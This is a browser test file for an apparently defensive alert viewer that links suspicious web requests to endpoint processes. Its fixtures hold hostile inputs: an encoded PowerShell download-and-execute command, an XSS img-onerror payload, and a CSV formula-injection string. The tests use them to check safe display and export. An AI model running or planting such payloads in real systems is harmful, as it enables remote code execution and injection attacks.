// The process on the page (issue 21, point 4), proved with alerts whose events
// were stitched to endpoint data, brought in through "Import alerts…": the
// table marks an alert whose User-Agent claimed a browser and names the
// program; the detail says it plainly and explains where the client came
// from; the evidence record shows the computer, PID, user, command line and
// parent (as text, unknown where unknown, long values wrapped, at 1440 and
// 800 px); the JSON and CSV exports carry the process (neutralised); the
// stitchSeconds field takes its range and refuses the rest. This needs no
// endpoint reader or stitching: tests/browser/stitch-drop.test.ts drops the
// logs themselves once those are in.
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import type { Alert } from '../../src/core/alerts/alert';
import { toRecord, type AlertRecord } from '../../src/core/alerts/record';
import { defaultSettings } from '../../src/core/settings/settings';
import { alertOf, evidenceEvent as event, POWERSHELL, T } from '../helpers/stitched.ts';
import {
  assertNoUncaughtErrors,
  assertOnlyOwnOrigin,
  currentRun,
  waitForRunAfter,
  download,
  evidenceRecordValues,
  importAlerts,
  jsonLines,
  launchApp,
  removeDirs,
  tempDir,
  type App,
} from './harness.ts';

const SENTENCE = "Sent a browser's User-Agent (Chrome 120): the program is powershell.exe";
// Long, with no break for a long stretch, and with markup in it: shown as text, wrapped, never cut.
const COMMAND_LINE =
  `"${POWERSHELL}" -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ` +
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAGEAcwB0AGUAYgBpAG4ALgBjAG8AbQAvAHIAYQB3AC8AWABrADIAYwA5AEEAJwApAA== ' +
  '<img src=x onerror="window.__pwned=1"> & exit';
const HOSTILE_COMMAND = "=cmd|' /C calc'!A0 --update";

let app: App;
let dir = '';
let alertsFile = '';

const implant = {
  computer: 'WS-ANN.corp.example',
  image: POWERSHELL,
  pid: 6132,
  user: null,
  commandLine: COMMAND_LINE,
  parentImage: 'C:\\Windows\\System32\\wscript.exe',
};

const ALERTS: Alert[] = [
  alertOf([
    event({ process: implant, uaClaimsBrowser: true }),
    event({ time: T + 60_000, source: { file: 'url-2026-10-20.log', line: 19 }, process: implant, uaClaimsBrowser: true }),
  ]),
  alertOf(
    [
      event({
        time: T + 1000,
        host: '10.20.0.5',
        user: '',
        url: 'example.org/',
        userAgent: 'curl/8.4.0',
        contentType: 'text/html',
      }),
    ],
    { client: 'curl', variation: 'website_access', domain: 'example.org' },
  ),
  alertOf(
    [
      event({
        time: T + 2000,
        host: '10.20.0.9',
        user: '',
        url: 'updates.example.net/',
        userAgent: '',
        contentType: '',
        process: {
          computer: 'WS-BOB',
          image: 'C:\\Program Files\\Vendor\\updater.exe',
          pid: null,
          user: 'CORP\\bob',
          commandLine: HOSTILE_COMMAND,
          parentImage: null,
        },
      }),
    ],
    { client: 'updater.exe', variation: 'website_access', domain: 'updates.example.net' },
  ),
];

function row(page: Page, client: string) {
  return page.locator('[data-testid="alert-row"]').filter({ has: page.getByTestId('row-client').getByText(client) });
}

before(async () => {
  dir = await tempDir();
  alertsFile = join(dir, 'stitched-alerts.jsonl');
  await writeFile(alertsFile, ALERTS.map((a) => JSON.stringify(toRecord(a, defaultSettings())) + '\n').join(''));
  app = await launchApp();
  await app.page.setViewportSize({ width: 1440, height: 900 });
  await app.page.locator('[data-storage="indexeddb"]').waitFor({ state: 'attached', timeout: 60_000 });
  await importAlerts(app.page, alertsFile);
});

after(async () => {
  await app?.close();
  await removeDirs(dir);
});

test('the table marks the alert whose User-Agent claimed a browser, names its program, and keeps the mark whole at 1440 and 800 px', async () => {
  const page = app.page;
  assert.equal(await page.getByTestId('alert-row').count(), 3);
  const ps = row(page, 'powershell.exe');
  const marker = ps.getByTestId('claim-marker');
  assert.equal((await marker.textContent())?.trim(), 'browser UA');
  assert.equal(await marker.getAttribute('title'), SENTENCE);
  assert.equal(
    await ps.getByTestId('row-client').getAttribute('title'),
    `powershell.exe: process image ${POWERSHELL}. ${SENTENCE}`,
  );
  assert.equal(
    await row(page, 'curl').getByTestId('claim-marker').count(),
    0,
    'no finding where no User-Agent claimed a browser',
  );
  assert.equal(await row(page, 'updater.exe').getByTestId('claim-marker').count(), 0);

  for (const width of [1440, 800]) {
    await page.setViewportSize({ width, height: 900 });
    await page.waitForFunction((w) => document.documentElement.clientWidth === w, width);
    // The mark comes before the name, so a column out of room cuts the name (whole in the hover text), never the mark.
    const clip = await ps.getByTestId('row-client').evaluate((c) => {
      const m = c.querySelector('[data-testid="claim-marker"]')!.getBoundingClientRect();
      const r = c.getBoundingClientRect();
      return {
        markRight: m.right,
        markLeft: m.left,
        cellLeft: r.left,
        cellRight: r.right - parseFloat(getComputedStyle(c).paddingRight),
      };
    });
    assert.ok(
      clip.markLeft >= clip.cellLeft && clip.markRight <= clip.cellRight + 0.5,
      `at ${width} px the mark is whole in its cell: ${JSON.stringify(clip)}`,
    );
    const box = await marker.boundingBox();
    assert.ok(box !== null && box.x >= 0 && box.x + box.width <= width, `at ${width} px the mark is on screen`);
    if (width === 1440) {
      const overflow = await page.locator('[role="grid"]').evaluate((g) => g.scrollWidth - g.clientWidth);
      assert.ok(overflow <= 0, `the table scrolls sideways by ${overflow} px`);
    }
  }
  await page.setViewportSize({ width: 1440, height: 900 });
});

test('the detail says the finding plainly, names the process and explains where the client came from', async () => {
  const page = app.page;
  await row(page, 'powershell.exe').click();
  const detail = page.getByTestId('alert-detail');
  const claim = detail.getByTestId('ua-claims-browser');
  assert.equal(
    (await claim.textContent())?.replace(/\s+/g, ' ').trim(),
    "User-Agent claimed a browser: its requests sent a browser's User-Agent (Chrome 120): the program is powershell.exe.",
  );
  const proc = (await detail.getByTestId('detail-process').textContent())?.replace(/\s+/g, ' ').trim();
  assert.equal(proc, `powershell.exe ${POWERSHELL}`);
  assert.match(
    (await detail.getByTestId('why-process').textContent()) ?? '',
    /The client is the process image powershell\.exe, from endpoint data .* Its User-Agent claims Chrome 120: by the User-Agent alone these requests would have passed for a browser/,
  );
  await page.keyboard.press('Escape');
  await detail.waitFor({ state: 'detached' });

  await row(page, 'curl').click();
  assert.equal(await detail.getByTestId('ua-claims-browser').count(), 0);
  assert.equal(await detail.getByTestId('detail-process').count(), 0, 'an alert of URL logs alone names no process');
  assert.equal(await detail.getByTestId('why-process').count(), 0);
  await detail.getByTestId('evidence-source').first().click();
  const text = ((await detail.getByTestId('evidence-record').textContent()) ?? '').replace(/\s+/g, ' ');
  assert.match(text, /Process not known \(no endpoint data was joined to this event\)/);
  await page.keyboard.press('Escape');
  await detail.waitFor({ state: 'detached' });
});

for (const width of [1440, 800]) {
  test(`at ${width} px the evidence record shows the computer, PID, user, command line and parent, as text, wrapped, unknown as unknown`, async () => {
    const page = app.page;
    await page.setViewportSize({ width, height: 900 });
    await row(page, 'powershell.exe').click();
    const detail = page.getByTestId('alert-detail');
    await detail.getByTestId('evidence-source').first().click();
    await detail.getByTestId('evidence-record').waitFor();
    const values = await evidenceRecordValues(page);
    const get = (k: string) => values.find((v) => v.key === k);
    assert.deepEqual(
      ['Process', 'Image', 'Computer', 'PID', 'Process user', 'Command line', 'Parent image'].map((k) => [k, get(k)?.value]),
      [
        ['Process', 'powershell.exe'],
        ['Image', POWERSHELL],
        ['Computer', 'WS-ANN.corp.example'],
        ['PID', '6132'],
        ['Process user', 'unknown'],
        ['Command line', COMMAND_LINE],
        ['Parent image', 'C:\\Windows\\System32\\wscript.exe'],
      ],
    );
    assert.equal(get('User-Agent claims a browser')?.value, `yes: ${SENTENCE[0].toLowerCase()}${SENTENCE.slice(1)}`);
    for (const v of values) {
      assert.equal(v.cut, false, `${v.key} "${v.value}" is cut`);
      assert.equal(v.inside, true, `${v.key} "${v.value}" is outside the evidence box`);
      assert.doesNotMatch(v.value, /^(null|undefined)$/, `${v.key} shows ${v.value}`);
    }
    assert.ok((get('Command line')?.lines ?? 0) > 1, 'the long command line wraps onto several lines');
    // The markup in the command line is text: no element was made of it, and its handler never ran.
    assert.equal(await detail.locator('img').count(), 0);
    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
    await page.keyboard.press('Escape');
    await detail.waitFor({ state: 'detached' });
  });
}

test('the JSON and CSV exports carry the process, its text neutralised in the CSV', async () => {
  const page = app.page;
  await page.setViewportSize({ width: 1440, height: 900 });
  const json = jsonLines<{ client: string; evidence: { process: unknown; user_agent_claims_browser: boolean }[] }>(
    (await download(page, 'export-json')).text,
  );
  const ps = json.find((r) => r.client === 'powershell.exe');
  const record: AlertRecord['evidence'][number]['process'] = {
    computer: 'WS-ANN.corp.example',
    image: POWERSHELL,
    pid: 6132,
    user: null,
    command_line: COMMAND_LINE,
    parent_image: 'C:\\Windows\\System32\\wscript.exe',
  };
  assert.deepEqual(
    ps?.evidence.map((e) => [e.process, e.user_agent_claims_browser]),
    [
      [record, true],
      [record, true],
    ],
  );
  assert.deepEqual(
    json.find((r) => r.client === 'curl')?.evidence.map((e) => [e.process, e.user_agent_claims_browser]),
    [[null, false]],
  );

  const csv = Papa.parse<Record<string, string>>((await download(page, 'export-csv')).text.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  }).data;
  const byClient = new Map(csv.map((r) => [r.client, r]));
  const got = byClient.get('powershell.exe') ?? {};
  const want: Record<string, string> = {
    first_process_computer: 'WS-ANN.corp.example',
    first_process_image: POWERSHELL,
    first_process_pid: '6132',
    first_process_user: '',
    first_process_command_line: COMMAND_LINE,
    first_process_parent_image: 'C:\\Windows\\System32\\wscript.exe',
    first_user_agent_claims_browser: 'true',
  };
  for (const [k, v] of Object.entries(want)) assert.equal(got[k], v, k);
  assert.equal(byClient.get('updater.exe')?.first_process_command_line, `'${HOSTILE_COMMAND}`, 'a formula is neutralised');
  assert.equal(byClient.get('updater.exe')?.first_user_agent_claims_browser, 'false');
  assert.equal(byClient.get('curl')?.first_process_image, '');
});

test('Settings: the stitching window takes 1 to 3,600 seconds, says so, refuses the rest, and the banner names it', async () => {
  const page = app.page;
  await page.getByRole('button', { name: 'Settings' }).click();
  const dialog = page.getByRole('dialog', { name: 'Detection settings' });
  await dialog.waitFor();
  const field = dialog.getByTestId('setting-stitchSeconds');
  assert.equal(await field.inputValue(), '120');
  assert.equal(await field.getAttribute('min'), '1');
  assert.equal(await field.getAttribute('max'), '3600');
  const label = dialog.locator('label.setting', { has: page.getByTestId('setting-stitchSeconds') });
  assert.match((await label.textContent()) ?? '', /Stitching window.*seconds.*From 1 to 3,600; default 120\./s);
  for (const [typed, why] of [
    ['0', /Refused: must be from 1 to 3600 seconds \(.*ports are reused\); got 0/],
    ['3601', /Refused: must be from 1 to 3600 seconds .*; got 3601/],
  ] as const) {
    await field.fill(typed);
    assert.match((await label.getByTestId('setting-error').textContent()) ?? '', why);
    assert.equal(await field.getAttribute('aria-invalid'), 'true');
    assert.equal(await dialog.getByRole('button', { name: 'Apply' }).isDisabled(), true);
  }
  await field.fill('30');
  assert.equal(await label.getByTestId('setting-error').count(), 0);
  const run = await currentRun(page);
  await dialog.getByRole('button', { name: 'Apply' }).click();
  await waitForRunAfter(page, run);
  assert.match((await page.getByTestId('settings-banner').textContent()) ?? '', /stitching window 30 seconds \(default 120\)/);
});

test('the page threw no uncaught error', () => {
  assertNoUncaughtErrors(app);
});

test('no request left the page origin', () => {
  assertOnlyOwnOrigin(app);
});
